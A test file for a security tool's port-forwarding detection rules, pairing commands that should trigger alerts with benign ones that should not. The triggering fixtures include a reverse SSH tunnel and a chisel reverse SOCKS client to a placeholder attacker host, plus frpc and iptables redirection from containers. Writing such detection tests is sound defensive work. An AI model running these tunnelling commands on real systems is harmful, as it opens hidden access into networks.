import { test } from 'node:test';
import { ruleTester, exec } from '../../src/core/rules/index.js';
import { builtinFilesSync } from '../../src/node/rules/load.js';

const files = builtinFilesSync('port-forwarding.yaml');
const T = 'network/port-forwarding';

test('port-forwarding rules', () => {
  ruleTester(files, {
    fires: [
      { type: T, event: exec('socat TCP-LISTEN:2222,fork TCP:10.0.0.9:22') },
      { type: T, event: exec('ssh -N -R 9000:localhost:22 attacker@198.51.100.3') },
      { type: T, event: exec('ssh -L 5432:db.internal:5432 jump') },
      { type: T, event: exec('/tmp/frpc -c frpc.ini', { proc: { name: 'frpc' }, container: {} }) },
      { type: T, event: exec('chisel client 198.51.100.3:8000 R:socks') },
      {
        type: T,
        rule: 'NAT redirection added from container',
        event: exec('iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 198.51.100.3:8080', { container: {} }),
      },
    ],
    silent: [
      { event: exec('ssh user@host uptime') },
      { event: exec('socat - UNIX-CONNECT:/run/app.sock') },
      { event: exec('iptables -t nat -A PREROUTING -j DNAT --to 10.0.0.1', { container: {}, parents: ['kube-proxy'] }) },
      { event: exec('iptables -t nat -L', { container: {} }) },
      { event: exec('iptables -t nat -A POSTROUTING -j MASQUERADE') },
    ],
  });
});
